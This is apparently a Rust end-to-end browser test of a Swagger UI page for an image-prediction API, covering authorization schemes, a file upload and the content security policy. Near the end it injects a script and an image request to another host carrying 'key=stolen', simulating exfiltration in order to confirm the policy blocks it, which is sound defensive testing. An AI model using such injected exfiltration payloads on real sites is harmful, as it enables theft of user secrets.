//! The documentation page (Swagger UI): authorization, an upload, and the content security policy.

use crate::common::{KEY, Server, data};
use crate::driver::Browser;

/// Returns the XPath of the credential field of a security scheme.
fn scheme(name: &str) -> String {
    format!("//div[contains(@class, 'auth-container')][.//h4[contains(., '{name}')]]")
}

fn authorise(browser: &Browser, name: &str) {
    browser.click("//button[contains(@class, 'authorize')]");
    browser.type_into(&format!("{}//input", scheme(name)), KEY);
    browser.click(&format!("{}//button[text()='Authorize']", scheme(name)));
    browser.click("(//button[contains(@class, 'btn-done')])[1]");
}

#[test]
fn swagger_ui_authorizes_uploads_and_obeys_the_content_security_policy() {
    let Some(browser) = Browser::start() else { return };
    let server = Server::start(&["--device", "cpu"]);
    browser.open(&format!("{}/docs", server.url));

    authorise(&browser, "ApiKey");

    let operation = "//div[contains(@class, 'opblock')][.//span[@data-path='/predict']]";
    browser.click(&format!("{operation}//span[@data-path='/predict']"));
    browser.click(&format!("{operation}//button[contains(@class, 'try-out__btn')]"));
    let image = data("photos/cat_640x480.jpg");
    browser.type_into(&format!("{operation}//input[@type='file']"), image.to_str().unwrap());
    let execute = format!("{operation}//button[contains(@class, 'execute')]");
    browser.click(&execute);

    let live = format!("{operation}//table[contains(@class, 'live-responses-table')]//tr[@class='response']");
    browser.find(&live);
    let shown = browser.text(&live);
    assert!(shown.starts_with("200"), "{shown}");
    assert!(shown.contains("\"predictions\"") && shown.contains("\"label\": \"Egyptian cat\""), "{shown}");

    // The other scheme works without the first one.
    browser.click("//button[contains(@class, 'authorize')]");
    browser.click(&format!("{}//button[text()='Logout']", scheme("ApiKey")));
    browser.click("(//button[contains(@class, 'btn-done')])[1]");
    authorise(&browser, "Bearer");
    browser.click(&format!("{operation}//button[contains(@class, 'btn-clear')]"));
    browser.click(&execute);
    browser.find(&live);
    assert!(browser.text(&live).starts_with("200"), "{}", browser.text(&live));
    let sent = browser.text(&format!("{operation}//div[contains(@class, 'curl-command')]"));
    assert!(sent.contains("Authorization: Bearer") && !sent.contains("X-API-Key"), "{sent}");

    // Open every other operation and every schema.
    browser.run(
        "for (const closed of ['.opblock:not(.is-open) .opblock-summary-control', '.model-container .model-box-control'])
             document.querySelectorAll(closed).forEach(button => button.click());",
        &[],
    );
    browser.find("//div[contains(@class, 'opblock') and contains(@class, 'is-open')][.//span[@data-path='/metrics']]");
    browser.find("//div[contains(@class, 'model-container')]//*[contains(text(), 'request_id')]");
    let none: [String; 0] = [];
    assert_eq!(browser.violations(), none, "the page violates its own policy");
    // An injected script does not run, and an injected image is not loaded from another server.
    browser.run(
        "const script = document.createElement('script');
         script.textContent = 'document.title = \"taken over\"';
         document.body.append(script);
         new Image().src = 'http://127.0.0.2:9/?key=stolen';",
        &[],
    );
    assert_eq!(browser.run("return document.title", &[]), "Swagger UI");
    assert_eq!(browser.violations().len(), 2);
}
